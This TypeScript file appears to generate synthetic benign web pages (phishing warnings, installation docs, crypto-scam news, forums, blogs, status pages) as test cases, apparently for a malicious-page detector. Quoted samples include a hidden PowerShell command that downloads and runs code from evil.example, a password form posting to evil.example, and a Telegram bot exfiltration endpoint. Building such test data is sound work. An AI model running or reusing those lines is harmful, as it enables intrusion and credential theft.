import type { Family } from '../family.ts'
import { brandOf, calledBy, homeOf } from '../make/brands.ts'
import type { Chance } from '../make/chance.ts'
import { companyOf, honestHost } from '../make/hosts/hosts.ts'
import { button, input } from '../make/pages/fields.ts'
import { documentOf, escaped, filler, footerOf, STATIC } from '../make/pages/layout.ts'

const search = (chance: Chance) =>
  chance.maybe(0.6)
    ? '<form action="/search" role="search"><input type="search" name="q" placeholder="Search"></form>'
    : ''
const subscribe = (chance: Chance) =>
  chance.maybe(0.4)
    ? '<form method="post" action="/subscribe"><input type="email" name="email" placeholder="Your email"><button>Subscribe</button></form>'
    : ''

const QUOTED =
  '<form action="https://evil.example/login.php" method="post"><input type="password" name="pass"></form>'

const phishing: Family = {
  id: 'phishing_article',
  expected: 'benign',
  split: 'held-out',
  make(chance) {
    const host = honestHost(chance, ['blog.', 'www.', ''])
    const site = companyOf(host)
    const brand = brandOf(chance)
    const name = calledBy(brand, chance)
    const title = chance.of([
      `New phishing campaign imitates ${name}`,
      `How to recognise fake ${name} emails`,
      `${name}: Vorsicht vor Phishing`,
      `Warning: ${name} phishing`,
      `${name}をかたるフィッシング`,
      `Attention au phishing : ${name}`,
      `Anatomy of a ${name} phishing kit`,
    ])
    const quotes = chance.some(
      [
        `<blockquote>"Your ${escaped(name)} account has been suspended. Confirm your password and card number within 24 hours."</blockquote>`,
        `<pre><code>${escaped(QUOTED)}</code></pre>`,
        `<p>The page at <code>https://${brand.domains[0]}.account-verify.example/login</code> asks for password, one-time code and card number.</p>`,
        `<p>Victims were told to press Windows + R, paste with Ctrl + V and press Enter, which ran <code>powershell -w hidden -c "iex (iwr https://evil.example/a)"</code>.</p>`,
        '<p>Never enter your 12-word seed phrase on a website. Attackers call setApprovalForAll and drain wallets.</p>',
        `<img src="/img/fake-${brand.id}.png" alt="Screenshot of the fake ${escaped(name)} login page">`,
        '<p>The kit sends credentials to api.telegram.org/bot123:ABC/sendMessage.</p>',
      ],
      2 + chance.below(4),
    )
    const body = documentOf(
      {
        language: 'en',
        title: `${title} | ${site}`,
        heading: title,
        logo: `<a href="/">${escaped(site)}</a>`,
        main:
          search(chance) +
          filler('en', 2, chance) +
          quotes.join(filler('en', 1, chance)) +
          filler('en', 2, chance) +
          subscribe(chance),
        footer: footerOf('en', site, ['/about'], chance),
        skeletons: STATIC,
        head: chance.maybe(0.5) ? `<meta property="og:site_name" content="${escaped(site)}">` : '',
      },
      chance,
    )
    return {
      url: `https://${host}/${chance.of(['2026/11', 'news', 'posts'])}/${brand.id}-phishing`,
      body,
      isHonest: true,
    }
  },
}

const COMMANDS = [
  'curl -fsSL https://get.docker.com | sh',
  'powershell -c "irm bun.sh/install.ps1 | iex"',
  'Set-ExecutionPolicy RemoteSigned -Scope CurrentUser; irm get.scoop.sh | iex',
  '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
  'npm install --save left-pad',
  'sudo apt-get update && sudo apt-get install -y nginx',
  "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
  'winget install --id Git.Git -e',
  'echo "aGVsbG8=" | base64 -d',
  'cmd /c mklink /D link target',
  'msiexec /i setup.msi /qn',
]

const docs: Family = {
  id: 'docs_shell',
  expected: 'benign',
  split: 'dev',
  make(chance) {
    const host = honestHost(chance, ['docs.', '', 'www.'])
    const name = companyOf(host)
    const blocks = chance
      .some(COMMANDS, 2 + chance.below(4))
      .map(
        (command, index) =>
          `<h3>Step ${index + 1}</h3><div class="code"><pre><code id="c${index}">${escaped(command)}</code></pre><button class="copy" data-clipboard-target="#c${index}" data-clipboard-text="${escaped(command)}">Copy</button></div>`,
      )
    const copy = chance.of([
      'document.querySelectorAll(".copy").forEach(function(b){b.addEventListener("click",function(){navigator.clipboard.writeText(b.previousElementSibling.innerText);b.textContent="Copied!"})})',
      'new ClipboardJS(".copy")',
      'function copy(t){const a=document.createElement("textarea");a.value=t;document.body.appendChild(a);a.select();document.execCommand("copy");a.remove()}document.querySelectorAll(".copy").forEach(b=>b.onclick=()=>copy(b.dataset.clipboardText))',
    ])
    const how = chance.of([
      '<p>Open Windows PowerShell and paste the command.</p>',
      '<p>Open a terminal, paste the following and press Enter.</p>',
      '<p>Press Windows + R, type cmd and press Enter to open the command prompt.</p>',
      '',
    ])
    const body = documentOf(
      {
        language: 'en',
        title: `Installation - ${name} documentation`,
        heading: 'Installation',
        main: search(chance) + how + blocks.join('') + filler('en', 2, chance),
        scripts: `<script>${copy}</script>`,
        footer: footerOf('en', name, ['/docs'], chance),
        skeletons: STATIC,
      },
      chance,
    )
    return { url: `https://${host}/getting-started/installation`, body, isHonest: true }
  },
}

const cryptoNews: Family = {
  id: 'crypto_scam_news',
  expected: 'benign',
  split: 'dev',
  make(chance) {
    const host = honestHost(chance)
    const site = companyOf(host)
    const brand = brandOf(chance, 'exchange')
    const title = chance.of([
      `${brand.name} users lose $3M to a fake airdrop`,
      'What is a wallet drainer?',
      'Seed phrase scams, explained',
      `Fake ${brand.name} site drains wallets`,
      'Pig butchering: how it works',
    ])
    const facts = chance.some(
      [
        '<p>The contract called setApprovalForAll and moved all NFTs.</p>',
        '<p>Users were told to "connect wallet" and "claim airdrop", then signed a Permit2 message (eth_signTypedData_v4).</p>',
        '<p>Never share your secret recovery phrase. No support desk needs your 12 words.</p>',
        '<pre><code>function permit(address owner, address spender, uint256 value)</code></pre>',
        '<p>Revoke approvals at revoke.cash.</p>',
      ],
      3,
    )
    const body = documentOf(
      {
        language: 'en',
        title: `${title} - ${site}`,
        heading: title,
        logo: `<a href="/">${escaped(site)}</a>`,
        main:
          search(chance) +
          filler('en', 2, chance) +
          facts.join('') +
          filler('en', 3, chance) +
          subscribe(chance),
        footer: footerOf('en', site, ['/about'], chance),
        scripts: '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>',
        skeletons: STATIC,
      },
      chance,
    )
    return { url: `https://${host}/crypto/${chance.hex(6)}`, body, isHonest: true }
  },
}

const forum: Family = {
  id: 'forum',
  expected: 'benign',
  split: 'dev',
  make(chance) {
    const host = honestHost(chance, ['forum.', 'community.', 'www.', ''])
    const site = companyOf(host)
    const brand = brandOf(chance)
    const topic = chance.of([
      `${brand.name} login not working?`,
      `Is this ${brand.name} mail real?`,
      'Virus warning popup with phone number, what to do?',
      'Best cheap laptop',
      `${brand.name}にログインできない`,
    ])
    const posts = Array.from(
      { length: 4 + chance.below(6) },
      () =>
        `<div class="post"><a class="user" href="/u/${chance.name(3)}">${chance.name(3)}</a>${filler('en', 1, chance)}${chance.maybe(0.1) ? '<p>It said: "Your PC is infected, call +1-844-555-0142 now, do not shut down". Scam.</p>' : ''}</div>`,
    )
    const login = `<form action="/login" method="post" id="quick-login">${input('type="text" name="username"', 'Username', chance)}${input('type="password" name="password"', 'Password', chance)}${button('Log in', chance)}</form>`
    const body = documentOf(
      {
        language: 'en',
        title: `${topic} - ${site} Forum`,
        heading: topic,
        logo: `<a href="/">${escaped(site)} Forum</a>`,
        main: (chance.maybe(0.6) ? login : '') + posts.join(''),
        footer: `${footerOf('en', site, ['/rules'], chance)} Powered by phpBB`,
        skeletons: STATIC,
      },
      chance,
    )
    return { url: `https://${host}/viewtopic.php?t=${chance.digits(5)}`, body, isHonest: true }
  },
}

const blog: Family = {
  id: 'github_io_blog',
  expected: 'benign',
  split: 'dev',
  make(chance) {
    const owner = chance.name(3)
    const host = `${owner}.${chance.of(['github.io', 'github.io', 'gitlab.io', 'pages.dev', 'netlify.app', 'vercel.app', 'blogspot.com'])}`
    const brand = chance.maybe(0.4) ? brandOf(chance) : null
    const title =
      brand === null
        ? chance.of(['Notes on parsers', 'A winter in Hokkaido', 'My dotfiles', 'Learning Rust'])
        : chance.of([
            `Building a ${brand.name} clone with React`,
            `Scraping ${brand.name} with Python`,
            `Why I left ${brand.name}`,
          ])
    const comments = chance.maybe(0.7)
      ? '<h3>Comments</h3><form method="post" action="https://formspree.io/f/abc"><input name="name" placeholder="Name"><input type="email" name="email" placeholder="Email"><textarea name="comment" placeholder="Comment"></textarea><button>Post comment</button></form>'
      : '<script src="https://giscus.app/client.js" async></script>'
    const body = documentOf(
      {
        language: 'en',
        title: `${title} | ${owner}`,
        heading: title,
        logo: `<a href="/">${owner}'s blog</a>`,
        main: filler('en', 5, chance) + comments,
        footer: `© ${owner}`,
        skeletons: STATIC,
      },
      chance,
    )
    return { url: `https://${host}/posts/${chance.name(4)}`, body, isHonest: true }
  },
}

const status: Family = {
  id: 'status_page',
  expected: 'benign',
  split: 'dev',
  make(chance) {
    const isBrand = chance.maybe(0.5)
    const brand = brandOf(chance, 'software')
    const name = isBrand ? calledBy(brand, chance) : companyOf(honestHost(chance))
    const label = name.toLowerCase().replaceAll(/[^a-z0-9]/g, '')
    const host = isBrand
      ? chance.of([homeOf(brand, chance, ['status']), `${label}.statuspage.io`, `${label}status.com`])
      : chance.of([`status.${honestHost(chance, [''])}`, `${label}.statuspage.io`, `${label}.instatus.com`])
    const rows = ['API', 'Dashboard', 'Login', 'Payments', 'Webhooks'].map(
      (part) =>
        `<tr><td>${part}</td><td>${chance.of(['Operational', 'Operational', 'Degraded performance'])}</td></tr>`,
    )
    const body = documentOf(
      {
        language: 'en',
        title: `${name} Status`,
        heading: 'All Systems Operational',
        logo: `<img src="/logo.png" alt="${escaped(name)}">`,
        main: `<table>${rows.join('')}</table><form action="/subscriptions" method="post"><input type="email" name="email" placeholder="Email"><button>Subscribe to updates</button></form>`,
        footer: 'Powered by Atlassian Statuspage',
      },
      chance,
    )
    return { url: `https://${host}/`, body, isHonest: true }
  },
}

export const HONEST_WRITING: readonly Family[] = [phishing, docs, cryptoNews, forum, blog, status]
